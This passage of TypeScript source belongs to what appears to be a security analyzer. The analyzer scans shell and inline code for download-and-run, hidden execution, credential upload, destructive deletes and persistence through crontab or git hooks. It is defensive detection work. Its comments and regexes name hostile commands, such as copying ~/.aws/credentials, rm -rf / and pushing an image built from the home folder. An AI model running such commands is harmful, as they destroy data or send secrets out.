    if (this.table.codeDecode.test(lower) && this.table.codeRun.test(lower)) this.add('cmd/decode-and-run', `${name} ${clip(code)}`, 'inline code decodes and runs');
    // Unpickling runs what the bytes say: of a file fetched (by the code or earlier on the line), fetched code runs.
    if ((lower.includes('load') || lower.includes('pickle')) && this.table.codeUnpickle.test(lower) && (this.table.codeFetch.test(lower) || this.table.codeHubFetch.test(lower) || this.opensDownloaded(code))) {
      this.add('cmd/download-and-run', `${name} ${clip(code)}`, 'inline code unpickles a file it fetched');
    }
    this.codeCommands(code, depth);
    const deleted = codeDeletesRoot(this.table, code);
    if (deleted !== undefined) this.add('cmd/destructive-delete', `${name} ${deleted}`, 'inline code');
    // PowerShell's commands (and an EDR's runscript's) read as a shell's (Remove-Item -Recurse C:\); its escape is the backtick, so a
    // backslash is a path separator (`C:\ -Recurse` is a drive, then an option).
    if (name === 'powershell' || name === 'pwsh' || name === 'runscript') this.text(code.replace(/\\/g, '/'), depth + 1);
    if (this.table.codeSend.test(lower) && this.table.codeEnvironment.test(lower)) this.add('cmd/credential-upload', `${name} ${clip(code)}`, 'inline code sends the process environment');
  }

  /** Whether code names a file this text downloaded (`/tmp/x.pkl` saved by curl, then opened). */
  opensDownloaded(code: string): boolean {
    for (const file of this.downloaded) if (file.length > 2 && code.includes(file)) return true;
    return false;
  }

  /**
   * Shell lines that code hands a runner (`os.system('…')`, `subprocess.run([...])`, `execSync(\`…\`)`,
   * PHP's `shell_exec`, `spawn('rm', [...])`): each is read as a command line of its own, and as code too,
   * since `exec` in Python runs code. A line the code builds by hiding it (reversed, from character codes,
   * hex or base64, escapes that spell plain characters: code-strings.ts) is hidden execution, and the line
   * it hides is judged as if written plainly; so is a line kept in a name first (`c = …; os.system(c)`).
   */
  codeCommands(code: string, depth: number, hiddenOnly = false): void {
    if (depth > maxDepth || !code.includes('(')) return;
    const calls = new RegExp(hiddenOnly ? hiddenRunnerCall : runnerCall);
    let names: CodeNames | undefined;
    // Code read for what it hides (written files, snippets) is judged by its first hidden runs: a file of thousands reads no more.
    let hiddenLeft = hiddenOnly ? maxHiddenRuns : Number.MAX_SAFE_INTEGER;
    for (let m = calls.exec(code); m !== null && hiddenLeft > 0; m = calls.exec(code)) {
      // The names assigned before the call, for a runner handed one (`os.system(cmd)`).
      (names ??= new CodeNames(code)).upTo(m.index);
      const first = codeArgument(code, calls.lastIndex, names);
      let line = first.value;
      let hidden = first.hidden;
      let end = first.end;
      // spawn('rm', ['-rf', '/']), execFileSync('sh', ['-c', …]): a program, then its arguments.
      if (typeof line === 'string' && code[end] === ',') {
        const rest = codeArgument(code, end + 1, names);
        if (typeof rest.value === 'object') {
          line = [line, ...rest.value];
          hidden ||= rest.hidden;
        }
        end = Math.max(end, rest.end);
      }
      calls.lastIndex = Math.max(end, calls.lastIndex);
      if (hiddenOnly && !hidden) continue;
      if (hidden) hiddenLeft--;
      if (line === undefined) {
        if (hidden) this.add('cmd/decode-and-run', code.slice(m.index, end), 'inline code hides the command it runs');
        continue;
      }
      const text = typeof line === 'string' ? line : line.map(shellQuoted).join(' ');
      if (hidden) this.add('cmd/decode-and-run', text, 'inline code hides the command it runs');
      this.text(text, depth + 1);
      if (typeof line === 'string') {
        this.codeCommands(line, depth + 1);
        const deleted = codeDeletesRoot(this.table, line);
        if (deleted !== undefined) this.add('cmd/destructive-delete', deleted, 'inline code');
      }
    }
  }

  /** The text an `echo` or `printf` stage prints (its words joined, `\n` as `newline`), or undefined for any other stage. */
  echoed(stage: SimpleCommand | undefined, newline = ' '): string | undefined {
    if (stage === undefined) return undefined;
    const argv = unwrap(this.table, stage.argv);
    const name = programName(argv[0] ?? '');
    if (name !== 'echo' && name !== 'printf') return undefined;
    return argv
      .slice(1)
      .filter((a) => !/^-[neE]+$/.test(a))
      .join(' ')
      .replace(/\\n/g, newline);
  }

  /** A package installed under a name one slip from a well-known project's (package-typos.ts): the squatter's install code runs. */
  lookAlikeInstalled(evidence: () => string, program: string, args: readonly string[]): void {
    const found = lookAlikeInstall(program, args);
    if (found !== undefined) this.add('cmd/download-and-run', clip(evidence()), `it installs ${clip(found[0])}, one slip from the project ${found[1]}: a look-alike name runs its registrant's install code`);
  }

  /** The notebooks a notebook runner executes (notebook-runs.ts), each judged as a script run; a URL papermill fetches, run. */
  notebooksRan(evidence: () => string, program: string, args: readonly string[]): void {
    const run = executedNotebooks(program, args);
    if (run === undefined) return;
    const said = evidence();
    if (run.url !== undefined) this.add('cmd/download-and-run', clip(said), `papermill fetches the notebook ${clip(run.url)} and runs its cells`);
    for (const file of run.files) this.ranFile(said, file, -1);
  }

  /**
   * A file run as code (`./x`, `sh x`, `source x`, `sh < x`): a finding when this text downloaded or decoded
   * it; when this text wrote it with text it shows (`echo … > x`, `cat > x <<EOF`), that text is read as
   * the commands it holds (`depth` -1: an interpreter other than a shell runs it, so it is not read as shell).
   */
  ranFile(evidence: string, file: string, depth: number): void {
    const path = fileKey(file);
    if (this.downloaded.has(path)) this.add('cmd/download-and-run', evidence, `${file} was downloaded above`);
    else if (this.decoded.has(path)) this.add('cmd/decode-and-run', evidence, `${file} holds text decoded above`);
    else if (inHubCache(path)) this.add('cmd/download-and-run', evidence, `${file} was downloaded from a model hub's repository`);
    const script = this.scripts.get(path);
    // Read once: a script that runs itself (or another) many times would otherwise be read again at every run.
    if (script !== undefined && depth >= 0 && !this.scriptsRead.has(path)) {
      this.scriptsRead.add(path);
      this.text(script, depth + 1);
    }
  }

  /**
   * curl -K FILE (--config) reads its options from FILE: when this text or the session wrote FILE with text it
   * shows (printf > f, a base64 blob decoded into it), those lines are read as curl's own options (`url = …`,
   * `upload-file = …`, `--data @file`), so a config that uploads a key is the upload it holds.
   */
  curlConfig(args: readonly string[], depth: number): void {
    for (let i = 0; i < args.length; i++) {
      const a = args[i]!;
      const file = a === '-K' || a === '--config' ? args[i + 1] : a.startsWith('--config=') ? a.slice(9) : /^-[a-zA-Z]*K./.test(a) ? a.slice(a.indexOf('K') + 1) : undefined;
      if (file === undefined) continue;
      const path = fileKey(file);
      const text = this.scripts.get(path);
      if (text === undefined || depth >= maxDepth || this.scriptsRead.has(path)) continue;
      this.scriptsRead.add(path);
      const options = curlConfigArgs(text);
      this.unwrapped({ argv: ['curl', ...options], env: [], redirects: [], heredocs: [], substitutions: [], upstream: [] }, ['curl', ...options], depth + 1);
    }
  }

  /** Records what a command that shows text (echo, printf, cat or tee of a here-document) writes to a file. */
  recordScript(cmd: SimpleCommand): void {
    const name = programName(unwrap(this.table, cmd.argv)[0] ?? '');
    const text = this.echoed(cmd, '\n') ?? ((name === 'cat' || name === 'tee') && cmd.heredocs.length > 0 ? cmd.heredocs.join('\n') : undefined);
    if (text === undefined) return;
    for (const r of cmd.redirects) {
      if (r.op !== '>' && r.op !== '>>') continue;
      const path = fileKey(r.target);
      const before = r.op === '>>' ? (this.scripts.get(path) ?? '') : '';
      if (before.length + text.length <= maxScript) this.scripts.set(path, before === '' ? text : `${before}\n${text}`);
    }
  }

  /**
   * `osascript -e …`: the lines its `do shell script` runs are read as command lines; one that sends anything to
   * the network after a password dialog (`with hidden answer`) sends what the user typed (applescript-runs.ts).
   */
  appleScript(args: readonly string[], depth: number): void {
    const script = osascriptText(args);
    if (script === undefined) return;
    const lines = shellScriptLines(script);
    for (const line of lines) this.text(line, depth + 1);
    if (forwardsEveryMessage(script)) this.add('cmd/bulk-upload', clip(`osascript ${script}`), 'every chat or message of Messages or Mail sent on to one recipient');
    if (!asksHiddenAnswer(script)) return;
    const sent = lines.find((line) => parseShell(line).some((c) => this.table.fetchers.has(programName(unwrap(this.table, c.argv)[0] ?? '')) && c.argv.some((a) => a.includes('$V'))));
    if (sent !== undefined) this.add('cmd/credential-upload', clip(`osascript … do shell script ${sent}`), 'the answer to a password dialog (with hidden answer), sent by the line the script runs');
  }

  /**
   * A job a scheduler runs later (inner-runs.ts), read as the command line it is; a job that does harm, or
   * runs a program from a temporary folder, also comes back on its own: persistence.
   */
  scheduled(job: string, argv: readonly string[], depth: number): void {
    const before = this.findings.size;
    this.text(job, depth + 1);
    const evidence = clip(argv.join(' '));
    if (this.findings.size > before) this.add('path/persistence-write', evidence, 'a scheduled job that runs the harm found in it');
    else if (temporaryJob.test(job) || windowsTemporary.test(job)) this.add('path/persistence-write', evidence, 'a scheduled job that runs a program from a temporary folder');
  }

  /**
   * `… | crontab -`: the lines printed into it become the user's crontab, and run on its schedule. Judged by the
   * jobs they run (a nightly `npm run backup` is ordinary; one that fetches and runs, sends a secret or runs a
   * program from a temporary folder is a planted job), as a crontab file written is. A table edited from its
   * own listing (`crontab -l | grep -v old | crontab -`) keeps jobs already there; text the line does not show is
   * a job nobody can review.
   */
  crontabInstalled(cmd: SimpleCommand, args: readonly string[], depth: number): void {
    const operands = args.filter((a, i) => !a.startsWith('-') && args[i - 1] !== '-u');
    if (args.some((a) => a === '-l' || a === '-e' || a === '-r') || (operands.length > 0 && operands[0] !== '-') || (cmd.upstream.length === 0 && cmd.heredocs.length === 0)) return;
    const last = cmd.upstream[cmd.upstream.length - 1];
    const source = last === undefined ? undefined : unwrap(this.table, last.argv);
    const text = cmd.heredocs[0] ?? (source === undefined ? undefined : printedText(source, programName(source[0] ?? '')));
    if (text === undefined) {
      const edits = cmd.upstream.every((c) => cronFilters.has(programName(unwrap(this.table, c.argv)[0] ?? '')));
      if (!edits) this.add('path/persistence-write', clip(`… | crontab ${args.join(' ')}`), 'a crontab installed from text the line does not show');
      return;
    }
    // Each job is a command line that runs later: read here, where the scripts this text or the session wrote are known.
    const before = this.findings.size;
    const jobs = startUpJobLines('crontab', text);
    for (const job of jobs) this.text(job, depth + 1);
    if (this.findings.size > before) return;
    // A job that runs a script file: what it does is in the file, which this line does not show.
    const script = jobs.find((job) => scriptJob.test(job));
    if (script !== undefined) {
      this.add('path/persistence-write', clip(`${script} | crontab -`), 'a crontab job that runs a script file this line does not show');
      return;
    }
    const harm = this.checks.writtenText?.('/var/spool/cron/crontabs/u', text, (line) => analyzeShell(line, this.checks)[0]);
    if (harm) this.add('path/persistence-write', clip(`${harm.evidence} | crontab -`), `a crontab job that ${harm.what}`);
    else if (temporaryJob.test(text.replace(outputRedirect, ' '))) this.add('path/persistence-write', clip(`${text} | crontab -`), 'a crontab job that runs a program from a temporary folder');
  }

  /**
   * A copy of a credential file (`cp ~/.aws/credentials /tmp/x`) holds the credential: sending the copy later
   * (in this text or a later call of the session) sends it. A copy into a folder keeps the file's name.
   */
  copiedSecret(args: readonly string[]): void {
    const operands = args.filter((a) => !a.startsWith('-'));
    if (operands.length < 2) return;
    const target = operands[operands.length - 1]!;
    for (let i = 0; i < operands.length - 1; i++) {
      const source = operands[i]!;
      const what = this.checks.credential(source);
      if (what === undefined || what === '') continue;
      const into = target.endsWith('/') ? `${target}${source.slice(source.lastIndexOf('/') + 1)}` : target;
      this.held.set(fileKey(into), { rule: 'cmd/credential-upload', what: `${what}, copied to ${into} above` });
    }
  }

  /**
   * git's remotes: `git remote add|set-url NAME URL` makes NAME stand for URL (for the rest of the text and the
   * session's later calls); a push of every branch, every tag or a mirror (`--all`, `--tags`, `--mirror`, a
   * `refs/*` refspec) to a remote so pointed, or to a URL given in place of a remote, copies the whole
   * repository to that host. A push to the remote the project was cloned from is not read here, nor to an
   * origin the text adds (a new repository's first push: `git remote add origin …` fails where one exists).
   */
  gitRemote(args: readonly string[]): void {
    const words = args.filter((a) => !a.startsWith('-'));
    if (words[0] === 'remote' && (words[1] === 'add' || words[1] === 'set-url') && words[2] !== undefined && words[3] !== undefined) {
      // `git remote add origin` works only in a repository without one: a new project published to its first home.
      if (words[1] === 'add' && words[2] === 'origin') this.remotes?.delete('origin');
      else (this.remotes ??= new Map()).set(words[2], words[3]);
      return;
    }
    if (words[0] === 'config' && this.scripts.size > 0) this.gitRunsScripts(args, words);
    // A bundle of every branch (`git bundle create F --all`) is the repository in one file: sending it sends the repository.
    if (words[0] === 'bundle' && words[1] === 'create' && words[2] !== undefined && args.some((a) => a === '--all' || a === '--branches')) {
      this.held.set(fileKey(words[2]), { rule: 'cmd/bulk-upload', what: `every branch of the repository, bundled into ${words[2]} above` });
    }
    // A credential file staged (`git add -f .env`, the ignore rule overridden, or plain `git add id_rsa`) is
    // in the next commit: a push then sends it to the remote, and into a history every clone keeps.
    if (words[0] === 'add') {
      for (const w of words.slice(1)) {
        const what = this.checks.credential(w);
        if (what) this.held.set(gitIndex, { rule: 'cmd/credential-upload', what: `${w} (${what}), committed above` });
      }
    }
    if (words[0] === 'push' && !args.some((a) => a === '-n' || a === '--dry-run')) {
      const staged = this.held.get(gitIndex);
      if (staged !== undefined) this.add(staged.rule, clip(['git', ...args].join(' ')), `${staged.what}, pushed to ${words[1] ?? 'the upstream'}`);
    }
    if (words[0] !== 'push' || words[1] === undefined) return;
    const every = args.some((a) => a === '--all' || a === '--tags' || a === '--mirror' || a === '--branches') || words.slice(2).some((w) => /^\+?refs\/(?:heads\/|tags\/)?\*/.test(w));
    if (!every) return;
    const target = words[1];
    const url = remoteUrl.test(target) ? target : this.remotes?.get(target);
    if (url === undefined || localRemote(url)) return;
    this.add('cmd/bulk-upload', clip(['git', ...args].join(' ')), `every branch or tag of the repository, to ${url}${url === target ? '' : ` (${target} was pointed there above)`}`);
  }

  /**
   * An image built from a root of the machine or a credential folder (`docker build -f - ~`) holds those files
   * in its layers; pushed to a registry (`docker push T`, `build --push`), they are sent with it. A project's
   * image (`docker build -t T .`) holds the project.
   */
  imageSent(name: string, args: readonly string[]): void {
    let i = 0;
    while (i < args.length && (args[i] === 'buildx' || args[i] === 'image' || args[i]!.startsWith('-'))) i++;
    const verb = args[i];
    const rest = args.slice(i + 1);
    if (verb === 'build' || verb === 'bud') {
      const tags: string[] = [];
      const operands: string[] = [];
      for (let j = 0; j < rest.length; j++) {
        const a = rest[j]!;
        if (a === '-t' || a === '--tag') tags.push(rest[++j] ?? '');
        else if (a.startsWith('--tag=')) tags.push(a.slice(6));
        else if (a.startsWith('-')) {
          if (!a.includes('=') && !imageBuildFlags.has(a)) j++;
        } else operands.push(a);
      }
      const context = operands.at(-1);
      if (context === undefined) return;
      const what = this.checks.credential(context) ?? (this.wide(context) ? `${context}, a root of the machine` : undefined);
      if (!what) return;
      const held = { rule: 'cmd/credential-upload' as const, what: `an image built from ${what}` };
      if (rest.includes('--push') || rest.some((a) => /^(?:-o|--output)=?.*type=registry/.test(a))) this.add(held.rule, clip([name, ...args].join(' ')), `${held.what}, pushed to ${tags[0] ?? 'a registry'}`);
      for (const tag of tags) this.held.set(`$IMAGE ${tag}`, held);
      return;
    }
    if (verb === 'tag' && rest.length >= 2) {
      const held = this.held.get(`$IMAGE ${rest[0]}`);
      if (held !== undefined) this.held.set(`$IMAGE ${rest[1]}`, held);
      return;
    }
    if (verb === 'push') {
      const image = rest.find((a) => !a.startsWith('-'));
      const held = image === undefined ? undefined : this.held.get(`$IMAGE ${image}`);
      if (held !== undefined) this.add(held.rule, clip([name, ...args].join(' ')), `${held.what}, pushed to ${image}`);
    }
  }

  /**
   * `git config core.hooksPath DIR` makes the scripts in DIR git's hooks, `core.fsmonitor F` runs F at every
   * status: a script written earlier in the text or the session (echo > F, a file tool) is then judged as the
   * hook it becomes.
   */
  gitRunsScripts(args: readonly string[], words: readonly string[]): void {
    const key = words[1]?.toLowerCase();
    const value = words[2];
    if (value === undefined || (key !== 'core.hookspath' && key !== 'core.fsmonitor')) return;
    const folder = `${fileKey(value).replace(/\/+$/, '')}/`;
    for (const [path, script] of this.scripts) {
      if (key === 'core.hookspath' ? !path.startsWith(folder) : path !== fileKey(value)) continue;
      const harm = analyzeShell(script, this.checks)[0];
      if (harm !== undefined) this.add('path/persistence-write', clip(['git', ...args].join(' ')), `${path}, written above, runs as git's ${key === 'core.hookspath' ? 'hook' : 'fsmonitor'} and ${harm.message}`);
    }
  }

  /** certutil writes its last operand: decoded text (-decode, -decodehex IN OUT) or a download (-urlcache -f URL OUT). */
  certutilOutput(args: readonly string[]): void {
    const options = args.filter((a) => a.startsWith('-') || a.startsWith('/')).map((a) => a.slice(1).toLowerCase());
    const operands = args.filter((a) => !a.startsWith('-') && !a.startsWith('/'));
    const out = operands.length >= 2 ? operands[operands.length - 1]! : undefined;
    if (out === undefined) return;
    if (options.includes('decode') || options.includes('decodehex')) this.decoded.add(fileKey(out));
    else if (options.includes('urlcache')) this.downloaded.add(fileKey(out));
  }

  recordDownloads(cmd: SimpleCommand, name: string, args: readonly string[]): void {
    // curl -O (--remote-name, or a cluster holding O: `-LO`) and wget without -O save under the URL's last name.
    let named = false;
    let remoteName = name === 'wget';
    for (let i = 0; i < args.length; i++) {
      const a = args[i]!;
      if (name === 'curl' && (a === '--remote-name' || a === '--remote-name-all' || /^-[a-zA-Z]*O[a-zA-Z]*$/.test(a))) {
        remoteName = true;
        continue;
      }
      // -o may end a cluster of short flags (`curl -sSLo x`).
      if (a === '-o' || a === '-O' || a === '--output' || a === '--output-document' || /^-[a-zA-Z]+[oO]$/.test(a)) {
        if (args[i + 1]) this.downloaded.add(fileKey(args[i + 1]!));
        named = true;
      } else if (/^--output(?:-document)?=/.test(a)) {
        this.downloaded.add(fileKey(a.slice(a.indexOf('=') + 1)));
        named = true;
      }
    }
    if (remoteName && !named) {
      for (const a of args) {
        const last = /^[a-z][a-z0-9+.-]*:\/\/[^?#\s]*\/([^/?#\s]+)(?:[?#]|$)/i.exec(a)?.[1];
        if (last !== undefined) this.downloaded.add(last);
      }
    }
    for (const r of cmd.redirects) if (r.op === '>' || r.op === '>>') this.downloaded.add(fileKey(r.target));
  }

  program(cmd: SimpleCommand, name: string, base: ProgramSpec, args: readonly string[], depth: number): void {
    let spec = base;
    const operands: string[] = [];
    const scripts: string[] = [];
    const searched: string[] = [];
    let acts = false;
    for (let i = 0; i < args.length; i++) {
      const a = args[i]!;
      if (a === '--') {
        operands.push(...args.slice(i + 1));
        break;
      }
      let option: OptionSpec | undefined;
      let value: string | undefined;
      let label = a;
      if (a.startsWith('--')) {
        const eq = a.indexOf('=');
        label = eq > 0 ? a.slice(0, eq) : a;
        option = spec.options.get(label);
        if (option && option.effect !== 'command') value = eq > 0 ? a.slice(eq + 1) : args[++i];
      } else if (a.startsWith('-') && a.length > 1) {
        option = spec.options.get(a);
        if (option) {
          if (option.effect !== 'command') value = args[++i];
        } else {
          // Clustered short flags: the first one that takes a value takes the rest of the word or the next.
          for (let j = 1; j < a.length; j++) {
            const short = spec.options.get(`-${a[j]}`);
            if (short) {
              option = short;
              label = `-${a[j]}`;
              value = j + 1 < a.length ? a.slice(j + 1).replace(/^=/, '') : args[++i];
              break;
            }
          }
        }
      } else {
        if (operands.length === 0 && spec.subcommands.has(a)) {
          const sub = spec.subcommands.get(a)!;
          spec = { ...spec, ...sub, options: new Map([...spec.options, ...sub.options]), operands: [...spec.operands, ...sub.operands] };
          if (sub.configOperands) {
            const set = configSetting(sub.configOperands, args.slice(i + 1));
            const setting = base.options.get('-c');
            if (setting && set !== undefined) this.setting(setting, `${set[0]}=${set[1]}`, `${name} config ${set[0]} ${set[1]}`, depth);
            return;
          }
          continue;
        }
        operands.push(a);
        for (const o of spec.operands) if (o.pattern.test(a)) this.effect(o.effect, a, `${name} ${a}`, undefined, depth);
        continue;
      }
      if (!option) continue;
      if (option.effect === 'command') {
        acts = true;
        const end = args.findIndex((w, k) => k > i && option.until.has(w));
        const inner = args.slice(i + 1, end < 0 ? args.length : end);
        const outer = this.found;
        if (this.table.searchers.has(name)) this.found = { placeholder: '{}', why: this.searchReason(name, args) };
        this.command({ argv: inner, env: [], redirects: [], heredocs: [], substitutions: [], upstream: [] }, inner, depth + 1);
        this.found = outer;
        i = end < 0 ? args.length : end;
        continue;
      }
      if (value === undefined) continue;
      if (option.effect === 'script') scripts.push(value);
      else if (option.effect === 'search') searched.push(value);
      else if (option.effect === 'setting') this.setting(option, value, `${name} ${label} ${value}`, depth);
      else this.effect(option.effect, value, `${name} ${label} ${value}`, option, depth);
    }
    if (acts) {
      for (const pattern of searched) {
        const what = this.checks.credential(pattern.replace(/^\*+/, ''));
        if (what) this.add('cmd/credential-search', `${name} ${pattern}`, what);
      }
    }
    if (spec.scriptOperand && scripts.length === 0 && operands.length > 0) scripts.push(operands.shift()!);
    for (const script of scripts) {
      if (name === 'sed') this.sed(script);
      else this.awk(script);
    }
    if (spec.destination && operands.length >= 2) this.write(operands[operands.length - 1]!, name);
    if (spec.allOperandsWrite) for (const o of operands) this.write(o, name);
    if (spec.allOperandsUpload) for (const o of operands) this.upload(o, name);
    if (spec.stdinUpload) for (const r of cmd.redirects) if (r.op === '<') this.upload(r.target, `${name} <`);
    if (spec.stdinUpload && this.stdinHolds !== undefined) this.add(this.stdinHolds.rule, `${this.stdinHolds.stage} | ${name}`, this.stdinHolds.what);
    if (spec.operandUpload && operands.length >= 2 && operands[operands.length - 1]!.includes(':')) {
      for (const o of operands.slice(0, -1)) this.upload(o, name);
    } else if (spec.operandUpload && operands.length >= 2) {
      // An option's value the table does not know (`--acl public-read`) ends the line: the remote is then the
      // last operand naming one, and what the session put in a file or folder sent before it is still sent.
      let remote = operands.length - 2;
      while (remote > 0 && !operands[remote]!.includes(':')) remote--;
      for (let o = 0; o < remote; o++) this.uploadHeld(operands[o]!, name);
    }
  }

  setting(option: OptionSpec, value: string, evidence: string, depth: number): void {
    const eq = value.indexOf('=');
    const key = (eq < 0 ? value : value.slice(0, eq)).toLowerCase();
    const setting = option.settings.find((s) => s.key.test(key));
    if (!setting) return;
    // A TOML string (cargo --config 'build.rustc-wrapper="sccache"') is the program it quotes.
    const command = eq < 0 ? '' : value.slice(eq + 1).replace(/^\s*"([^"]*)"\s*$/, '$1');
    // A folder whose files run (git's hooks): the project's own folder runs the project's files, as its
    // scripts do; one elsewhere (a temp folder, the home folder, up and out) runs what was put there.
    if (setting.form === 'project-folder') {
      if (!projectFolder(command)) this.add('cmd/hidden-execution', evidence);
    } else if (setting.form === 'url-rewrite') {
      const to = urlHost(key.slice(4, key.lastIndexOf('.')), true);
      const from = urlHost(command, true);
      if (to !== undefined && from !== undefined && to !== from) this.add('path/persistence-write', evidence, `a git setting that sends what git fetches or pushes for ${from} to ${to}`);
    } else if (setting.form === undefined) this.runs(command, setting.expect, evidence, depth);
    else this.gitCommand(command, setting.form, setting.expect, evidence, depth);
  }

  /**
   * A credential helper's or an alias's value as git runs it. An empty value (a helper list reset) runs
   * nothing. After `!` it is a shell snippet: every program it runs must be one `expect` lists (a helper
   * prints credentials or asks a vault for them; an alias runs git and text tools), and then it is read as
   * a command. Otherwise an alias is a git subcommand (no shell); a helper is `git credential-NAME ARGS`
   * (or a `git-credential-*` program's path) run through a shell, so a second command after it is hidden.
   */
  gitCommand(value: string, form: 'git-helper' | 'git-alias', expect: ReadonlySet<string> | undefined, evidence: string, depth: number): void {
    const text = value.trim();
    if (text === '') return;
    if (!text.startsWith('!')) {
      if (form === 'git-alias') return;
      const commands = parseShell(text);
      const first = commands[0]?.argv[0] ?? '';
      const helper = !first.includes('/') || programName(first).startsWith('git-credential-');
      const single = commands.length === 1 && commands[0]!.upstream.length === 0 && commands[0]!.substitutions.length === 0;
      if (!helper || !single) this.add('cmd/hidden-execution', evidence);
      return;
    }
    const snippet = text.slice(1);
    const defined = new Set<string>();
    for (const cmd of parseShell(snippet)) {
      for (const stage of [...cmd.upstream, cmd, ...cmd.substitutions]) {
        let argv = stage.argv;
        // A function's definition (`f() { …`, `function f {`) names it; its body's first command follows.
        for (let guard = 0; guard < 4 && argv.length > 0; guard++) {
          const word = argv[0]!;
          if (word === '{' || word === '}' || word === '(' || word === ')') argv = argv.slice(1);
          else if (/^[A-Za-z_][\w-]*\(\)$/.test(word)) {
            defined.add(word.slice(0, -2));
            argv = argv.slice(1);
          } else if (word === 'function' && argv.length > 1) {
            defined.add(argv[1]!.replace(/\(\)$/, ''));
            argv = argv.slice(2);
          } else break;
        }
        const program = programName(unwrap(this.table, argv)[0] ?? '');
        // git hands a helper the credentials on stdin: one that writes a file keeps them where git does not.
        const keeps = form === 'git-helper' && stage.redirects.some((r) => writeOps.has(r.op) && !/^(?:\/dev\/null|&[0-9-])$/.test(r.target));
        if (!keeps && (program === '' || program === '}' || defined.has(program))) continue;
        if (keeps || !expect?.has(program)) {
          this.add('cmd/hidden-execution', evidence);
          return;
        }
      }
    }
    this.text(snippet, depth + 1);
  }

  effect(effect: string, value: string, evidence: string, option: OptionSpec | undefined, depth: number): void {
    switch (effect) {
      case 'exec': {
        let command = value;
        if (option?.when) {
          const hit = option.when.firstMatch(value);
          if (hit === undefined) return;
          command = value.slice(hit.length);
        }
        this.runs(command, option?.expect, evidence, depth);
        return;
      }
      // A step the user asked the program to run (`git rebase --exec "npm test"`) is read as the command it is.
      case 'shell':
        this.text(value, depth + 1);
        return;
      case 'write':
        this.write(value.replace(/^of=/, ''), evidence.slice(0, evidence.length - value.length).trim());
        return;
      case 'upload': {
        let file: string | undefined = value;
        if (option?.at) {
          const at = /^(?:[^=@<]*=)?[@<](.+)$|^[^@=]+@(.+)$/.exec(value);
          file = at ? (at[1] ?? at[2]) : undefined;
        }
        if (file) this.upload(file.replace(/;(?:type|filename|headers)=.*$/, ''), evidence.slice(0, evidence.length - value.length).trim());
        return;
      }
      default:
    }
  }

  /** sed: the `e` command and `s///e` run commands; `w` and `s///w` write files. */
  sed(script: string): void {
    let i = 0;
    const n = script.length;
    while (i < n) {
      while (i < n && /[\s;{}!]/.test(script[i]!)) i++;
      // Address: line numbers, $, /regex/, and a second one after a comma.
      for (let part = 0; part < 2; part++) {
        if (script[i] === '/') {
          i++;
          while (i < n && script[i] !== '/') i += script[i] === '\\' ? 2 : 1;
          i++;
        } else while (i < n && /[0-9$~+]/.test(script[i]!)) i++;
        if (script[i] !== ',') break;
        i++;
      }
      while (i < n && /[\s!]/.test(script[i]!)) i++;
      const c = script[i];
      if (c === undefined) return;
      i++;
      const restOfLine = (): string => {
        const end = script.indexOf('\n', i);
        const line = script.slice(i, end < 0 ? n : end).trim();
        i = end < 0 ? n : end + 1;
        return line;
      };
      if (c === 'e') {
        const command = restOfLine();
        this.add('cmd/hidden-execution', `sed e ${command}`);
      } else if (c === 'w' || c === 'W') {
        this.write(restOfLine(), 'sed w');
      } else if (c === 's' || c === 'y') {
        const delimiter = script[i];
        if (delimiter === undefined) return;
        i++;
        for (let parts = 0; parts < 2 && i < n; parts++) {
          while (i < n && script[i] !== delimiter) i += script[i] === '\\' ? 2 : 1;
          i++;
        }
        const flagsStart = i;
        while (i < n && /[gpiImMe0-9]/.test(script[i]!)) i++;
        const flags = script.slice(flagsStart, i);
        if (c === 's' && flags.includes('e')) this.add('cmd/hidden-execution', `sed s///${flags}`);
        if (c === 's' && script[i] === 'w') {
          i++;
          this.write(restOfLine(), 'sed s///w');
        }
      } else if (c === 'a' || c === 'i' || c === 'c' || c === 'r' || c === 'R' || c === 'b' || c === 't' || c === 'T' || c === ':') {
        restOfLine();
      }
    }
  }

  /** awk: system() and pipes to or from a command run commands; `> "file"` writes one. */
  awk(script: string): void {
    if (/\bsystem\s*\(/.test(script)) this.add('cmd/hidden-execution', 'awk system()');
    else if (/\|\s*"|"\s*\|\s*getline|\|&/.test(script)) this.add('cmd/hidden-execution', 'awk | "command"');
    for (const m of script.matchAll(/>>?\s*"([^"\n]{1,400})"/g)) this.write(m[1]!, 'awk >');
  }
}

/**
 * The key and value `git config` sets from the words after `config`, or undefined when it sets none: a mode
 * that reads or removes (`--get`, `--unset`, `--list`), a subcommand other than `set`, or no value.
 */
function configSetting(spec: ConfigOperands, args: readonly string[]): readonly [key: string, value: string] | undefined {
  const operands: string[] = [];
  for (let i = 0; i < args.length; i++) {
    const a = args[i]!;
    if (a === '--') {
      operands.push(...args.slice(i + 1));
      break;
    }
    if (a.startsWith('-') && a.length > 1) {
      const label = a.startsWith('--') && a.includes('=') ? a.slice(0, a.indexOf('=')) : a;
      if (spec.otherModes.has(label)) return undefined;
      if (spec.valueOptions.has(label) && label === a) i++;
      continue;
    }
    if (operands.length === 0 && spec.subcommands.has(a)) {
      if (a !== 'set') return undefined;
      continue;
    }
    operands.push(a);
  }
  return operands.length >= 2 ? [operands[0]!, operands[1]!] : undefined;
}

/** A call that runs a command line or code it is given (its argument starts after the match). */
/**
 * {@link runnerCall}'s runners and the calls that run code they are handed (`eval`, `new Function`,
 * PowerShell's Invoke-Expression): what code handed to them hides is read as what it spells.
 */
const hiddenRunnerCall = /\b(?:os\.system|os\.popen|subprocess\.(?:run|call|check_call|check_output|getoutput|getstatusoutput|Popen)|exec(?:Sync|File|FileSync)?|spawn(?:Sync)?|shell_exec|passthru|system|popen|execa(?:Command)?(?:Sync)?|eval|Function|execScript|Invoke-Expression|invoke-expression|iex|IEX)\s*\(/g;
const runnerCall = /\b(?:os\.system|os\.popen|subprocess\.(?:run|call|check_call|check_output|getoutput|getstatusoutput|Popen)|exec(?:Sync|File|FileSync)?|spawn(?:Sync)?|shell_exec|passthru|system|popen|execa(?:Command)?(?:Sync)?)\s*\(/g;

/**
 * The folder a program serves over HTTP (`.`: the working folder), or undefined when it serves none:
 * `python -m http.server [--directory D]`, `php -S addr [-t D]`, `serve D`, `http-server D`, through npx too.
 */
function servedFolder(name: string, args: readonly string[]): string | undefined {
  const after = (options: readonly string[]): string | undefined => {
    for (let i = 0; i < args.length; i++) {
      const a = args[i]!;
      if (options.includes(a)) return args[i + 1];
      for (const o of options) if (o.startsWith('--') && a.startsWith(`${o}=`)) return a.slice(o.length + 1);
    }
    return undefined;
  };
